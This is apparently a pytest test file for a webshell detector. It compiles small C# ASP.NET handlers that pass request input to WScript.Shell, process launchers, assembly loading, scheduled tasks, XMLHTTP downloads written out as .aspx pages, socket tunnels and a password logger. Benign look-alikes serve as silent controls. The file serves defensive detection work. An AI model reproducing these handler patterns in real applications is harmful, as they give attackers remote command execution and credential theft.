"""What the IL reading missed among X44's WebForms siblings (issue 14, IL3, session 22; IL1's "Left", session 20):
COM objects called late-bound, XSLT compiled with script enabled, sockets kept in session state between requests,
uploads into the application's root under a request-given name.

- A COM object made from a literal ProgID or class id carries it (``Type.GetTypeFromProgID("WScript.Shell")``,
  ``GetTypeFromCLSID(new Guid(..))``, then ``Activator.CreateInstance``), and a late-bound call names its member in a
  literal too: a C# ``dynamic`` call site (the binder's member name kept in the site's field, the call the site's
  ``Target`` delegate), ``Type.InvokeMember``, VB's ``NewLateBinding.LateCall``. Request input reaching the call's
  arguments is ``shell-object`` (Run, Exec, ShellExecute), ``com-http`` (XMLHTTP's open), ``com-file-write``
  (ADODB.Stream's SaveToFile of a path taken whole) or ``cert-relay`` (CertificateAuthority.Request's Submit) - the
  source engine's shell-object, com-http and com-file-write, and the YARA rule of the certificate relay.
- ``XsltSettings`` made with script enabled (the constructor's second argument ``true``, ``EnableScript = true``,
  ``TrustedXslt``) handed to ``XslCompiledTransform.Load`` with a stylesheet from the request: ``xslt-script``.
- A socket or TcpClient read back from ``Session``/``Application`` and sent request input: ``kept-socket``.
- A file written into the application's root (``AppDomain.BaseDirectory``, ``HttpRuntime.AppDomainAppPath``,
  ``MapPath("~/")``) under a request-given name, no folder of the application's own between them:
  ``upload-to-app-root`` (the session-21 ruling: a fixed folder is silent, the root is no such folder).
- A request value read by a password's key (``Request.Form["password"]``) written into a file, whatever its path:
  ``password-to-file`` (the source engine's, A15, session 21); not a digest of it, not into a ``.config``.

Each has ordinary twins of the same shape that stay silent. The C# is written for these tests (compiled with mcs,
never run); nothing here is a collected file.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from extriage.detections.webfiles.assembly import analysis

from .assembly_build import compile_cs, needs_mcs

pytestmark = needs_mcs

_USING = (
    "using System; using System.IO; using System.Web; using System.Web.SessionState; using System.Reflection;\n"
    "using System.Net.Sockets; using System.Text; using System.Xml; using System.Xml.Xsl;\n"
)


def _handler(body: str, extra: str = "") -> str:
    return (
        _USING
        + "public class Handler : IHttpHandler, IRequiresSessionState {\n"
        "  public bool IsReusable { get { return false; } }\n"
        "  public void ProcessRequest(HttpContext ctx) {\n" + body + "\n  }\n" + extra + "}\n"
    )


_SHELL = 'dynamic sh = Activator.CreateInstance(Type.GetTypeFromProgID("WScript.Shell"));'
_CONNECT = (
    'if (ctx.Request.QueryString["c"] == "connect") { Socket n = new Socket(AddressFamily.InterNetwork, '
    'SocketType.Stream, ProtocolType.Tcp); n.Connect("127.0.0.1", 22); ctx.Session["sock"] = n; return; }'
)
#: VB's late binding, as the VB compiler emits it (Microsoft.VisualBasic is not in mono's 4.5 profile here: a stub
#: assembly declaring the member, which is all a member reference carries)
VB_STUB = (
    "namespace Microsoft.VisualBasic.CompilerServices { public sealed class NewLateBinding {\n"
    "  public static object LateCall(object Instance, System.Type Type, string MemberName, object[] Arguments,\n"
    "    string[] ArgumentNames, System.Type[] TypeArguments, bool[] CopyBack, bool IgnoreReturn) { return null; } } }\n"
    "namespace Microsoft.VisualBasic { public sealed class Interaction {\n"
    "  public static object CreateObject(string ProgId, string ServerName) { return null; }\n"
    "  public static int Shell(string PathName, int Style, bool Wait, int Timeout) { return 0; } } }\n"
)

#: name -> (source, the sink of the flow expected)
FOUND: dict[str, tuple[str, str]] = {
    "dynamic_progid_run": (_handler(_SHELL + ' sh.Run(ctx.Request.Form["c"], 0, true);'), "shell-object"),
    "dynamic_clsid_exec": (_handler(
        'dynamic sh = Activator.CreateInstance(Type.GetTypeFromCLSID(new Guid("72C24DD5-D70A-438B-8A42-98424B88AFB8")));'
        ' var x = sh.Exec("cmd /c " + ctx.Request.QueryString["q"]); ctx.Response.Write(x.StdOut.ReadAll());'), "shell-object"),
    "invokemember_shell_application": (_handler(
        'Type t = Type.GetTypeFromProgID("Shell.Application"); object o = Activator.CreateInstance(t);'
        ' t.InvokeMember("ShellExecute", BindingFlags.InvokeMethod, null, o,'
        ' new object[] { "cmd.exe", "/c " + ctx.Request.Params["p"], "", "open", 0 });'), "shell-object"),
    # the object made in a helper that runs what it is given: the helper's parameter reaches the call
    "dynamic_in_helper": (_handler(
        'Run(ctx.Request.Headers["X-C"]);', "  static void Run(string c) { " + _SHELL + " sh.Run(c); }\n"), "shell-object"),
    # the ProgID kept in a static readonly field and the verb's object in an instance field: set in the type's
    # constructors, which the walk now takes first
    "progid_in_static_field": (_handler(
        'dynamic sh = Activator.CreateInstance(Type.GetTypeFromProgID(Prog)); sh.Run(ctx.Request.Form["c"]);',
        '  static readonly string Prog = "WScript.Shell";\n'), "shell-object"),
    # the object made by a helper of the page from the ProgID it is given: the literal comes back with the result
    "progid_through_helper": (_handler(
        'dynamic sh = Make("WScript.Shell"); sh.Run(ctx.Request.Form["c"]);',
        "  static object Make(string p) { return Activator.CreateInstance(Type.GetTypeFromProgID(p)); }\n"), "shell-object"),
    # the class library's other launchers and loaders (B29's, session 21; A15's source sinks)
    "executor_exec_wait": (_handler(
        "string o = null, e = null; System.CodeDom.Compiler.Executor.ExecWaitWithCapture(\"cmd /c \" + ctx.Request.Form[\"c\"],"
        " new System.CodeDom.Compiler.TempFileCollection(), ref o, ref e);"), "process"),
    "interaction_shell": (_handler(
        'Microsoft.VisualBasic.Interaction.Shell(ctx.Request.Form["c"], 0, false, -1);'), "process"),
    "execute_assembly": (_handler(
        'AppDomain.CurrentDomain.ExecuteAssembly(ctx.Request.Form["p"]);'), "assembly-load"),
    "create_instance_from": (_handler(
        'Activator.CreateInstanceFrom(ctx.Request.Form["dll"], ctx.Request.Form["t"]);'), "assembly-load"),
    "event_log_clear": (_handler(
        'new System.Diagnostics.EventLog(ctx.Request.QueryString["log"]).Clear();'), "event-log-clear"),
    "scheduled_task_com": (_handler(
        'dynamic svc = Activator.CreateInstance(Type.GetTypeFromProgID("Schedule.Service")); svc.Connect();'
        " dynamic def = svc.NewTask(0); dynamic act = def.Actions.Create(0);"
        ' act.Path = ctx.Request.Form["p"]; svc.GetFolder("\\\\").RegisterTaskDefinition("U", def, 6, null, null, 3);'),
        "scheduled-task"),
    "vb_late_call": (_handler(
        'object sh = Microsoft.VisualBasic.Interaction.CreateObject("WScript.Shell", "");'
        ' Microsoft.VisualBasic.CompilerServices.NewLateBinding.LateCall(sh, null, "Run",'
        ' new object[] { ctx.Request.Form["c"] }, null, null, null, true);'), "shell-object"),
    "dynamic_xmlhttp_open": (_handler(
        'dynamic h = Activator.CreateInstance(Type.GetTypeFromProgID("MSXML2.ServerXMLHTTP"));'
        ' h.open("GET", ctx.Request.Form["u"], false); h.send();'
        ' dynamic s = Activator.CreateInstance(Type.GetTypeFromProgID("ADODB.Stream")); s.Type = 1; s.Open();'
        ' s.Write(h.responseBody); s.SaveToFile(ctx.Server.MapPath("~/n.aspx"), 2);'), "com-http"),
    "dynamic_adodb_request_path": (_handler(
        'dynamic s = Activator.CreateInstance(Type.GetTypeFromProgID("ADODB.Stream")); s.Type = 1; s.Open();'
        ' s.Write(Convert.FromBase64String(ctx.Request.Form["d"])); s.SaveToFile(ctx.Request.Form["p"], 2);'), "com-file-write"),
    "dynamic_cert_submit": (_handler(
        'dynamic cr = Activator.CreateInstance(Type.GetTypeFromProgID("CertificateAuthority.Request"));'
        ' int d = cr.Submit(0, ctx.Request.Form["csr"], "CertificateTemplate:User", ctx.Request.Form["ca"]);'
        ' ctx.Response.Write(cr.GetCertificate(0));'), "cert-relay"),
    "xslt_settings_ctor": (_handler(
        'var d = new XmlDocument(); d.LoadXml(ctx.Request.Form["x"]); var x = new XslCompiledTransform();'
        " x.Load(d, new XsltSettings(false, true), new XmlUrlResolver()); x.Transform(d, null, ctx.Response.Output);"),
        "xslt-script"),
    "xslt_enable_property": (_handler(
        "XsltSettings s = new XsltSettings(); s.EnableScript = true; XslCompiledTransform x = new XslCompiledTransform();"
        ' x.Load(XmlReader.Create(new StringReader(ctx.Request.Form["x"])), s, null);'
        " x.Transform(new XmlDocument(), null, ctx.Response.Output);"), "xslt-script"),
    "xslt_trusted": (_handler(
        "var x = new XslCompiledTransform();"
        ' x.Load(XmlReader.Create(new StringReader(ctx.Request.Unvalidated.Form["x"])), XsltSettings.TrustedXslt, null);'
        " x.Transform(new XmlDocument(), null, ctx.Response.Output);"), "xslt-script"),
    "socket_in_session": (_handler(
        _CONNECT + ' Socket s = (Socket)ctx.Session["sock"]; s.Send(Convert.FromBase64String(ctx.Request.Form["d"]));'
        " byte[] buf = new byte[4096]; int r = s.Receive(buf); ctx.Response.Write(Convert.ToBase64String(buf, 0, r));"),
        "kept-socket"),
    "tcpclient_in_application": (_handler(
        'var t = ctx.Application["t"] as TcpClient; byte[] b = ctx.Request.BinaryRead(ctx.Request.ContentLength);'
        " t.GetStream().Write(b, 0, b.Length);"), "kept-socket"),
    "socket_in_runtime_cache": (_handler(
        'var s = (Socket)HttpRuntime.Cache["s"]; s.Send(ctx.Request.BinaryRead(ctx.Request.ContentLength));'), "kept-socket"),
    "upload_basedirectory": (_handler(
        "HttpPostedFile f = ctx.Request.Files[0]; f.SaveAs(AppDomain.CurrentDomain.BaseDirectory + f.FileName);"),
        "upload-to-app-root"),
    "upload_mappath_root_combine": (_handler(
        'HttpPostedFile f = ctx.Request.Files[0]; f.SaveAs(Path.Combine(ctx.Server.MapPath("~/"), Path.GetFileName(f.FileName)));'),
        "upload-to-app-root"),
    "upload_mappath_of_root_and_name": (_handler(
        'HttpPostedFile f = ctx.Request.Files[0]; f.SaveAs(ctx.Server.MapPath("~/" + f.FileName));'), "upload-to-app-root"),
    # the body written into a FileStream made to create a file in the page's folder under the request's name
    "filestream_create_page_folder": (_handler(
        'using (var fs = new FileStream(ctx.Server.MapPath(".") + "\\\\" + ctx.Request.QueryString["name"], FileMode.Create))'
        " ctx.Request.InputStream.CopyTo(fs);"), "upload-to-app-root"),
    # a helper saving into the root under the name its caller gives, called with the request's name
    "helper_root_name_from_caller": (_handler(
        'Keep(ctx.Request.Files[0], ctx.Request.Form["n"]);',
        '  static void Keep(HttpPostedFile f, string name) { f.SaveAs(HttpContext.Current.Server.MapPath("~/") + name); }\n'),
        "upload-to-app-root"),
    # the library helper's shape (BIL2's, the lead's ruling 02:33) with its folder parameter fed the request by its caller
    "helper_folder_fed_the_request": (_handler(
        'Save(ctx.Request.Files[0], ctx.Request.Form["dir"], "f");',
        "  public static string Save(HttpPostedFile file, string folder, string name) {\n"
        "    string rel = folder + name + Path.GetExtension(file.FileName).ToLower();\n"
        '    file.SaveAs(HttpContext.Current.Server.MapPath("~/") + rel); return rel; }\n'), "upload-to-app-root"),
    "writeallbytes_app_path": (_handler(
        "byte[] d = new byte[ctx.Request.Files[0].ContentLength]; ctx.Request.Files[0].InputStream.Read(d, 0, d.Length);"
        ' File.WriteAllBytes(HttpRuntime.AppDomainAppPath + ctx.Request.Form["n"], d);'), "upload-to-app-root"),
    # a logon page backdoored to log each user name and password (X26's OWA logger): any path, the key says password
    "password_appended_to_file": (_handler(
        'File.AppendAllText(ctx.Server.MapPath("~/App_Data/l.txt"), ctx.Request.Form["username"] + ":"'
        ' + ctx.Request.Form["password"] + "\\r\\n");'), "password-to-file"),
    "password_through_stream_writer": (_handler(
        'using (var w = new StreamWriter(@"C:\\ProgramData\\cache.log", true))'
        ' w.WriteLine(ctx.Request["user"] + " " + ctx.Request["passwordText"]);'), "password-to-file"),
}

QUIET: dict[str, str] = {
    # the shell object runs a fixed command; the request is only echoed back, encoded
    "dynamic_shell_fixed_command": _handler(
        _SHELL + ' sh.Run("cmd /c ipconfig /flushdns", 0, true); ctx.Response.Write(HttpUtility.HtmlEncode(ctx.Request.Form["c"]));'),
    # the same with the ProgID in a static readonly field, a fixed command
    "static_field_shell_fixed_command": _handler(
        'dynamic sh = Activator.CreateInstance(Type.GetTypeFromProgID(Prog)); sh.Run("cmd /c iisreset /status", 0, true);'
        ' ctx.Response.Write(HttpUtility.HtmlEncode(ctx.Request.Form["c"]));',
        '  static readonly string Prog = "WScript.Shell";\n'),
    # the same helper making an XMLHTTP object that posts the request's text to a fixed address
    "helper_made_xmlhttp_fixed_address": _handler(
        'dynamic h = Make("MSXML2.ServerXMLHTTP"); h.open("POST", "https://api.example.invalid/q", false);'
        ' h.send(ctx.Request.Form["q"]);',
        "  static object Make(string p) { return Activator.CreateInstance(Type.GetTypeFromProgID(p)); }\n"),
    # an application clears its own log; a fixed tool run through Executor; the scheduler's tasks listed from a
    # folder the request names
    "event_log_own_clear": _handler(
        'new System.Diagnostics.EventLog("ShopApp").Clear(); ctx.Response.Write(HttpUtility.HtmlEncode(ctx.Request.Form["x"]));'),
    "executor_fixed_tool": _handler(
        "string o = null, e = null; System.CodeDom.Compiler.Executor.ExecWaitWithCapture(\"cmd /c ver\","
        ' new System.CodeDom.Compiler.TempFileCollection(), ref o, ref e); ctx.Response.Write(HttpUtility.HtmlEncode(ctx.Request["q"]));'),
    "scheduled_tasks_listed": _handler(
        'dynamic svc = Activator.CreateInstance(Type.GetTypeFromProgID("Schedule.Service")); svc.Connect();'
        ' foreach (dynamic t in svc.GetFolder(ctx.Request.QueryString["f"]).GetTasks(0))'
        " ctx.Response.Write(HttpUtility.HtmlEncode((string)t.Name));"),
    # the shell object reads an environment string the request names: no command
    "dynamic_shell_environment": _handler(
        _SHELL + ' ctx.Response.Write(HttpUtility.HtmlEncode((string)sh.ExpandEnvironmentStrings("%" + ctx.Request.Form["v"] + "%")));'),
    # an XMLHTTP post of the request's text to the application's own fixed address
    "dynamic_xmlhttp_fixed_address": _handler(
        'dynamic h = Activator.CreateInstance(Type.GetTypeFromProgID("MSXML2.ServerXMLHTTP"));'
        ' h.open("POST", "https://api.example.invalid/search", false); h.send(ctx.Request.Form["q"]);'
        " ctx.Response.Write(HttpUtility.HtmlEncode((string)h.responseText));"),
    # a cache file of the application's own written with request content (path fixed)
    "dynamic_adodb_fixed_path": _handler(
        'dynamic s = Activator.CreateInstance(Type.GetTypeFromProgID("ADODB.Stream")); s.Type = 2; s.Open();'
        ' s.WriteText(ctx.Request.Form["note"]); s.SaveToFile(ctx.Server.MapPath("~/App_Data/note.txt"), 2);'),
    # the CA's configuration read, and a pending request's certificate fetched by its id: no request submitted
    "dynamic_cert_retrieve": _handler(
        'dynamic cfg = Activator.CreateInstance(Type.GetTypeFromProgID("CertificateAuthority.Config"));'
        " string ca = cfg.GetConfig(0);"
        ' dynamic cr = Activator.CreateInstance(Type.GetTypeFromProgID("CertificateAuthority.Request"));'
        ' if (cr.RetrievePending(int.Parse(ctx.Request.QueryString["id"]), ca) == 3) ctx.Response.Write(cr.GetCertificate(0));'),
    # a stylesheet from the request compiled with script off; the script-enabled one is the application's own file
    "xslt_request_stylesheet_no_script": _handler(
        'var d = new XmlDocument(); d.LoadXml(ctx.Request.Form["x"]); var x = new XslCompiledTransform();'
        " x.Load(d, new XsltSettings(true, false), null); x.Transform(d, null, ctx.Response.Output);"),
    "xslt_own_stylesheet_with_script": _handler(
        'var x = new XslCompiledTransform(); x.Load(ctx.Server.MapPath("~/App_Data/report.xslt"), XsltSettings.TrustedXslt, null);'
        ' x.Transform(XmlReader.Create(new StringReader(ctx.Request.Form["data"])), null, ctx.Response.Output);'),
    # a socket kept in session sends a fixed keep-alive; the request is echoed back, encoded
    "session_socket_fixed_ping": _handler(
        _CONNECT + ' Socket s = (Socket)ctx.Session["sock"]; s.Send(Encoding.ASCII.GetBytes("PING\\r\\n"));'
        ' ctx.Response.Write(HttpUtility.HtmlEncode(ctx.Request.Form["d"]));'),
    # a chunked upload: a memory stream kept in session gathers the request's chunks
    "session_memory_stream_chunks": _handler(
        'var ms = ctx.Session["upload"] as MemoryStream; if (ms == null) { ms = new MemoryStream(); ctx.Session["upload"] = ms; }'
        " byte[] b = ctx.Request.BinaryRead(ctx.Request.ContentLength); ms.Write(b, 0, b.Length);"),
    # a fixed-host log relay: the page's own socket sends the request's message
    "own_socket_fixed_host": _handler(
        "var s = new Socket(AddressFamily.InterNetwork, SocketType.Dgram, ProtocolType.Udp);"
        ' s.Connect("127.0.0.1", 514); s.Send(Encoding.UTF8.GetBytes(ctx.Request.Form["msg"]));'),
    # uploads into a folder of the application's own, or into the root under a name the page makes
    "upload_fixed_folder": _handler(
        'HttpPostedFile f = ctx.Request.Files[0]; f.SaveAs(ctx.Server.MapPath("~/uploads/") + Path.GetFileName(f.FileName));'),
    "upload_root_app_data_combine": _handler(
        "HttpPostedFile f = ctx.Request.Files[0];"
        ' f.SaveAs(Path.Combine(AppDomain.CurrentDomain.BaseDirectory, "App_Data", Path.GetFileName(f.FileName)));'),
    "upload_root_own_name": _handler(
        'HttpPostedFile f = ctx.Request.Files[0]; f.SaveAs(AppDomain.CurrentDomain.BaseDirectory + Guid.NewGuid().ToString("N") + ".png");'),
    # a download handler: a file of the root under the request's name opened to read (FileMode.Open)
    "filestream_open_root_download": _handler(
        'using (var fs = new FileStream(HttpRuntime.AppDomainAppPath + Path.GetFileName(ctx.Request.QueryString["f"]), FileMode.Open))'
        " fs.CopyTo(ctx.Response.OutputStream);"),
    # a library helper: the folder and the name its caller's, only the extension the client's (BIL2's Maticsoft
    # FileUp shape, session 22); its callers pass folders of their own
    "helper_folder_from_caller": _handler(
        'Save(ctx.Request.Files[0], "upload/day_" + DateTime.Now.ToString("yyMMdd") + "/", Guid.NewGuid().ToString("N"));',
        "  public static string Save(HttpPostedFile file, string folder, string name) {\n"
        "    string rel = folder + name + Path.GetExtension(file.FileName).ToLower();\n"
        '    file.SaveAs(HttpContext.Current.Server.MapPath("~/") + rel); return rel; }\n'),
    "upload_root_fixed_extension": _handler(
        "HttpPostedFile f = ctx.Request.Files[0];"
        ' f.SaveAs(ctx.Server.MapPath("~/") + Path.GetFileNameWithoutExtension(f.FileName) + ".txt");'),
    # a user store keeps the password's digest; a visit log keeps the user name only
    "password_hashed_to_store": _handler(
        "var h = System.Security.Cryptography.SHA256.Create();"
        ' File.AppendAllText(ctx.Server.MapPath("~/App_Data/users.txt"), ctx.Request.Form["username"] + ":"'
        ' + Convert.ToBase64String(h.ComputeHash(Encoding.UTF8.GetBytes(ctx.Request.Form["password"]))) + "\\n");'),
    "visit_log_user_name": _handler(
        'File.AppendAllText(ctx.Server.MapPath("~/App_Data/visits.log"), ctx.Request.Form["username"] + " " + DateTime.Now + "\\n");'),
}


#: an installer writes the database password into web.config: no credential log (request content into a .config file
#: is page-write, IL1's, whatever the key)
INSTALLER = _handler(
    'string t = File.ReadAllText(ctx.Server.MapPath("~/App_Data/web.template"));'
    ' File.WriteAllText(ctx.Server.MapPath("~/web.config"), t.Replace("{pwd}", ctx.Request.Form["dbpassword"]));')


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    tmp = tmp_path_factory.mktemp("late")
    stub = compile_cs(tmp, "Microsoft.VisualBasic", VB_STUB)
    sources = {**{n: s for n, (s, _sink) in FOUND.items()}, **QUIET, "installer": INSTALLER}
    return {n: compile_cs(tmp, n, src, also=(stub,)) for n, src in sources.items()}


@pytest.mark.parametrize("name", sorted(FOUND))
def test_request_input_reaching_the_operation_is_found(built: dict[str, Path], name: str) -> None:
    report = analysis.analyse(built[name].read_bytes(), name)
    found = {h.rule.id for h in report.hits if h.confidence == "high"}
    assert FOUND[name][1] in found, [analysis.describe(h) for h in report.hits]


@pytest.mark.parametrize("name", sorted(QUIET))
def test_ordinary_code_of_the_same_shape_is_silent(built: dict[str, Path], name: str) -> None:
    report = analysis.analyse(built[name].read_bytes(), name)
    assert not report.hits, [analysis.describe(h) for h in report.hits]


def test_a_late_bound_flow_names_the_object_and_member(built: dict[str, Path]) -> None:
    report = analysis.analyse(built["dynamic_progid_run"].read_bytes(), "x")
    (hit,) = [h for h in report.hits if h.rule.id == "shell-object"]
    assert "late-bound WScript.Shell.Run" in hit.sink
    assert hit.entry is not None and hit.entry.member == "System.Web.HttpRequest::get_Form"


def test_a_password_written_into_a_config_file_is_no_credential_log(built: dict[str, Path]) -> None:
    report = analysis.analyse(built["installer"].read_bytes(), "installer")
    found = {h.rule.id for h in report.hits}
    assert "page-write" in found and "password-to-file" not in found, [analysis.describe(h) for h in report.hits]


#: ASP.NET MVC's types the controllers below name (System.Web.Mvc is not in mono's 4.5 profile here: a stub assembly,
#: whose member references are what a real MVC build references)
MVC_STUB = (
    "namespace System.Web.Mvc {\n"
    "  public abstract class ActionResult { }\n"
    "  public abstract class Controller { public System.Web.HttpServerUtilityBase Server { get { return null; } }\n"
    "    protected ActionResult Content(string s) { return null; } }\n"
    "  public class AuthorizeAttribute : System.Attribute { public string Roles { get; set; } }\n"
    "  public sealed class AllowAnonymousAttribute : System.Attribute { }\n"
    "  public sealed class HttpPostAttribute : System.Attribute { } }\n"
)
_MVC_USING = "using System; using System.IO; using System.Web; using System.Web.Mvc; using System.Diagnostics;\n"
_ROOT_SAVE = 'file.SaveAs(Path.Combine(Server.MapPath("~/"), Path.GetFileName(file.FileName))); return Content("ok");'

#: (name, source, found): a flow into an application feature from an action only signed-in users reach is the
#: application's (the source engine's sign-in check before the same sinks); a code-running sink counts regardless
SIGNED_IN: list[tuple[str, str, bool]] = [
    ("open_controller_root_upload", _MVC_USING + "public class NotesController : Controller {\n"
     "  [HttpPost] public ActionResult Upload(HttpPostedFileBase file) { " + _ROOT_SAVE + " } }\n", True),
    ("authorized_controller_root_upload", _MVC_USING + '[Authorize(Roles = "Teacher")] public class NotesController : Controller {\n'
     "  [HttpPost] public ActionResult Upload(HttpPostedFileBase file) { " + _ROOT_SAVE + " } }\n", False),
    ("authorized_action_root_upload", _MVC_USING + "public class NotesController : Controller {\n"
     "  [Authorize, HttpPost] public ActionResult Upload(HttpPostedFileBase file) { " + _ROOT_SAVE + " } }\n", False),
    ("own_authorize_subclass", _MVC_USING + "public class StaffOnlyAttribute : AuthorizeAttribute { }\n"
     "[StaffOnly] public class NotesController : Controller {\n"
     "  [HttpPost] public ActionResult Upload(HttpPostedFileBase file) { " + _ROOT_SAVE + " } }\n", False),
    ("anonymous_action_in_authorized_controller", _MVC_USING + "[Authorize] public class NotesController : Controller {\n"
     "  [AllowAnonymous, HttpPost] public ActionResult Upload(HttpPostedFileBase file) { " + _ROOT_SAVE + " } }\n", True),
    ("authorized_controller_runs_command", _MVC_USING + "[Authorize] public class ToolsController : Controller {\n"
     '  public ActionResult Run(string c) { Process.Start("cmd.exe", "/c " + c); return Content("ok"); } }\n', True),
]


@pytest.fixture(scope="module")
def signed(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    tmp = tmp_path_factory.mktemp("signed")
    stub = compile_cs(tmp, "System.Web.Mvc", MVC_STUB)
    return {n: compile_cs(tmp, n, src, also=(stub,)) for n, src, _found in SIGNED_IN}


@pytest.mark.parametrize(("name", "found"), [(n, f) for n, _s, f in SIGNED_IN])
def test_an_action_only_signed_in_users_reach_keeps_its_features(signed: dict[str, Path], name: str, found: bool) -> None:
    report = analysis.analyse(signed[name].read_bytes(), name)
    high = [h for h in report.hits if h.confidence == "high"]
    assert bool(high) == found, [analysis.describe(h) for h in report.hits]
